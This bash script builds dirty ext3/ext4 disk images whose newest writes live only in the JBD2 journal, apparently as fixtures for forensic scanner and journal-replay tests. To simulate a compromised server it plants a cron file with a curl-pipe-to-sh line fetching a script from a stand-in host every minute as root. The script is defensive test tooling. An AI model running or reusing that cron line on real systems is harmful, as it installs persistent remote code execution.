#!/usr/bin/env bash
# make-dirty-ext4.sh OUT.img VARIANT — builds an ext3/ext4 image whose newest
# writes exist only in its JBD2 journal (needs_recovery set), the state of a
# crash-consistent snapshot. Run by fsread/ext4 and scanner tests into a
# temporary directory; nothing is committed.
#
# The on-disk tree (mke2fs -d): etc/os-release (Debian 12), etc/hostname
# "web01", etc/cron.d/backup,
# etc/old, usr/bin/tool (5000 bytes).
# Journal only (for k-wrap, possibly checkpointed too), transaction group 1: etc/cron.d/miner (a curl|sh cron line),
# etc/hostname rewritten, jonly/big (40,000 bytes), jonly/magic (4,096+100
# bytes whose first block begins with the JBD2 magic c03b3998, so its
# journal copy is escaped), jonly/link -> ../etc/hostname, jonly/tmp/ (20
# files). Group 2: etc/old removed, miner chmod 0755, jonly/second,
# jonly/revoked (8,192 bytes), jonly/tmp/ removed (kernel: revoke records).
#
# d-* variants need no root: the transactions are written by e2fsprogs'
# own journal writer (debugfs jo/jw/jc) from the block differences of the
# states before and after each group of changes made with debugfs; a third
# transaction revokes the first data block of jonly/revoked, so replay
# must leave it as on disk (zeros).
#   d-ext4 (metadata_csum, jo -c: csum v3), d-ext4-v2 (jo -c -v 2),
#   d-ext4-nocsum (^metadata_csum, no journal checksum), d-ext4-v1
#   (^metadata_csum, jo -c: COMPAT_CHECKSUM crc32), d-ext3, d-ext4-no64 (^64bit).
# d-full: a 1 GiB sparse ext4 whose 128 MiB journal (32,768 blocks) is
#   filled by 32 committed transactions of 1,024 (the last 825) copies of
#   distinct blocks, for the replay benchmark (only the journal is allocated:
#   ~130 MB on disk).
# k-* variants need root: the kernel writes the journal (loop mount,
# commit=600, sync after each group) and the image is copied while still
# mounted, as a snapshot of a running server is.
#   k-ext4 (data=ordered: removing jonly/tmp revokes its directory block),
#   k-ext4-journal (data=journal: file data is logged, jonly/magic escaped),
#   k-ext4-nocsum, k-ext4-v1 (mount -o journal_checksum), k-ext3,
#   k-ext4-no64, k-wrap (1 KiB blocks, 1 MiB journal, data=journal, filled
#   after the two groups until the live log wraps past the journal's end).
set -euo pipefail
out=$1
variant=$2
export E2FSPROGS_FAKE_TIME=1700000000 TZ=UTC
work=$(mktemp -d)
dev=""
cleanup() {
  if [ -n "$dev" ]; then
    umount "$work/mnt" 2>/dev/null || true
    losetup -d "$dev" 2>/dev/null || true
  fi
  rm -rf "$work"
}
trap cleanup EXIT

pattern() { # pattern N SEED: N bytes of printable, non-repeating text
  awk -v n="$1" -v s="$2" 'BEGIN{srand(s); while (l < n) { x = sprintf("%08x-%d\n", int(rand()*2^31), l); if (l + length(x) > n) x = substr(x, 1, n - l); l += length(x); printf "%s", x } }'
}

base=$work/base
mkdir -p "$base/etc/cron.d" "$base/usr/bin"
printf 'ID=debian\nVERSION_ID="12"\n' > "$base/etc/os-release"
printf 'web01\n' > "$base/etc/hostname"
printf '0 3 * * * root /usr/local/bin/backup\n' > "$base/etc/cron.d/backup"
printf 'to be deleted\n' > "$base/etc/old"
pattern 5000 1 > "$base/usr/bin/tool"
chmod 0755 "$base/usr/bin/tool"
f=$work/files
mkdir -p "$f"
printf '* * * * * root curl -fsSL http://x.example/a.sh | sh\n' > "$f/miner"
printf 'web01-compromised\n' > "$f/hostname"
pattern 40000 2 > "$f/big"
{ printf '\xc0\x3b\x39\x98'; pattern 4192 3; } > "$f/magic"
printf 'second transaction\n' > "$f/second"
pattern 8192 4 > "$f/revoked"
for i in $(seq 1 20); do printf 'tmp %d\n' "$i" > "$f/t$i"; done

mkfs_opts=()
case $variant in
  *-ext3) mkfs_opts=(-t ext3) ;;
  *-nocsum | *-v1) mkfs_opts=(-t ext4 -O ^metadata_csum) ;;
  *-no64) mkfs_opts=(-t ext4 -O ^64bit) ;;
  k-wrap) mkfs_opts=(-t ext4 -b 1024 -J size=1) ;;
  *) mkfs_opts=(-t ext4) ;;
esac
# d-* only: DIRTY_BS=1024 DIRTY_SIZE=4M (or a -1k suffix: d-ext4-1k) make
# the smallest image that holds the tree and a 1 MiB journal (the fuzz
# targets' seed; at 1 KiB a transaction needs several descriptor blocks).
bs=${DIRTY_BS:-4096}
size=${DIRTY_SIZE:-16M}
case $variant in d-*-1k) bs=1024 size=4M ;; esac
case $variant in
  k-wrap) ;;
  k-*) mkfs_opts+=(-b 4096) ;;
  *) mkfs_opts+=(-b "$bs"); [ "$bs" -ge 4096 ] || mkfs_opts+=(-J size=1) ;;
esac
[ "$variant" = k-wrap ] || [ "${variant#d-}" != "$variant" ] || size=16M
mke2fs -q -F "${mkfs_opts[@]}" -E lazy_itable_init=0,lazy_journal_init=0 -L dirty \
  -U 6d0f6b8e-3c1a-4b7e-9a55-2f7f9f7a1c10 -d "$base" "$work/a.img" "$size"

case $variant in
d-full)
  mke2fs -q -F -t ext4 -b 4096 -J size=128 -L full "$out" 1G
  pattern $((1024 * 4096)) 5 > "$work/data"
  {
    echo "jo -c"
    for t in $(seq 0 31); do
      s=$((100000 + t * 1024)) n=1024
      [ "$t" -lt 31 ] || n=825
      echo "jw -b $(seq -s, "$s" $((s + n - 1))) $work/data"
    done
    echo "jc"
  } > "$work/jcmds"
  debugfs -w -f "$work/jcmds" "$out" >/dev/null 2>"$work/err" || { cat "$work/err" >&2; exit 1; }
  exit 0
  ;;
d-*)
  step() { # step FROM TO SCRIPT: TO = FROM with debugfs requests applied
    cp "$1" "$2"
    (cd "$f" && debugfs -w -f "$3" "$2" >/dev/null 2>"$work/err") || { cat "$work/err" >&2; exit 1; }
  }
  cat > "$work/g1" <<'EOF'
cd /etc/cron.d
write miner miner
cd /etc
rm hostname
write hostname hostname
cd /
mkdir jonly
cd /jonly
write big big
write magic magic
symlink link ../etc/hostname
mkdir tmp
cd /jonly/tmp
EOF
  for i in $(seq 1 20); do echo "write t$i t$i" >> "$work/g1"; done
  cat > "$work/g2" <<'EOF'
rm /etc/old
sif /etc/cron.d/miner mode 0100755
cd /jonly
write second second
write revoked revoked
EOF
  for i in $(seq 1 20); do echo "rm /jonly/tmp/t$i" >> "$work/g2"; done
  echo "rmdir /jonly/tmp" >> "$work/g2"
  step "$work/a.img" "$work/b.img" "$work/g1"
  step "$work/b.img" "$work/c.img" "$work/g2"
  # A transaction per group: the blocks that differ, with their new contents.
  trans() { # trans OLD NEW: prints "jw -b LIST FILE"
    local list blocks n=$3
    blocks=$({ cmp -l "$1" "$2" || true; } | awk -v bs=$bs '{print int(($1-1)/bs)}' | sort -nu)
    : > "$work/blocks$n"
    for b in $blocks; do dd if="$2" bs=$bs skip="$b" count=1 status=none >> "$work/blocks$n"; done
    list=$(echo $blocks | tr ' ' ,)
    echo "jw -b $list $work/blocks$n"
  }
  revoke=$(debugfs -R "bmap /jonly/revoked 0" "$work/c.img" 2>/dev/null)
  jo="jo"
  case $variant in
    d-ext4 | d-ext4-1k | d-ext4-v1 | d-ext4-no64) jo="jo -c" ;;
    d-ext4-v2) jo="jo -c -v 2" ;;
  esac
  {
    echo "$jo"
    trans "$work/a.img" "$work/b.img" 1
    trans "$work/b.img" "$work/c.img" 2
    echo "jw -r $revoke /dev/null"
    echo "jc"
  } > "$work/jcmds"
  debugfs -w -f "$work/jcmds" "$work/a.img" >/dev/null 2>"$work/err" || { cat "$work/err" >&2; exit 1; }
  cp "$work/a.img" "$out"
  ;;
k-*)
  [ "$(id -u)" -eq 0 ] || { echo "make-dirty-ext4.sh: $variant needs root (loop mount)" >&2; exit 2; }
  mkdir "$work/mnt"
  dev=$(losetup -f --show "$work/a.img")
  opts=commit=600
  [ "$variant" = k-ext4-v1 ] && opts+=,journal_checksum
  case $variant in k-wrap | k-ext4-journal) opts+=,data=journal ;; esac
  fstype=ext4
  mount -t "$fstype" -o "$opts" "$dev" "$work/mnt"
  m=$work/mnt
  # fsync, not sync: sync(2) also writes the block device's dirty buffers,
  # checkpointing the metadata to its home; fsync only commits, as a
  # running server's applications do.
  mkdir -p "$m/jonly/tmp"
  cp "$f/miner" "$m/etc/cron.d/miner"
  cp "$f/hostname" "$m/etc/hostname"
  cp "$f/big" "$m/jonly/big"
  cp "$f/magic" "$m/jonly/magic" # under data=journal its copy is escaped
  ln -s ../etc/hostname "$m/jonly/link"
  for i in $(seq 1 20); do cp "$f/t$i" "$m/jonly/tmp/t$i"; done
  sync "$m/etc/cron.d/miner" "$m/etc/hostname" "$m/jonly/big" "$m/jonly/magic" "$m"/jonly/tmp/* \
    "$m/jonly/tmp" "$m/jonly" "$m/etc" "$m/etc/cron.d"
  rm "$m/etc/old"
  chmod 0755 "$m/etc/cron.d/miner"
  cp "$f/second" "$m/jonly/second"
  cp "$f/revoked" "$m/jonly/revoked"
  rm -r "$m/jonly/tmp" # its directory block was logged: a revoke record (data=ordered)
  sync "$m/jonly/second" "$m/jonly/revoked" "$m/jonly" "$m/etc" "$m/etc/cron.d/miner"
  if [ "$variant" = k-wrap ]; then
    # Fill the 1 MiB journal until the live log (from the journal
    # superblock's start) runs past the journal's end.
    wrapped=""
    for i in $(seq 1 60); do
      pattern 100000 "$((10 + i))" > "$m/fill$((i % 3))"
      sync "$m/fill$((i % 3))"
      cp "$work/a.img" "$work/snap.img"
      if debugfs -c -R logdump "$work/snap.img" 2>/dev/null | awk '
          /Journal starts at block/ { s = $5 + 0 }
          /^Found expected sequence/ { b = $NF + 0; if (b < s) w = 1 }
          END { exit !w }'; then
        wrapped=1
        break
      fi
    done
    [ -n "$wrapped" ] || { echo "make-dirty-ext4.sh: the journal never wrapped" >&2; exit 1; }
    cp "$work/snap.img" "$out"
    exit 0
  fi
  cp "$work/a.img" "$out"
  ;;
*)
  echo "make-dirty-ext4.sh: unknown variant $variant" >&2
  exit 2
  ;;
esac
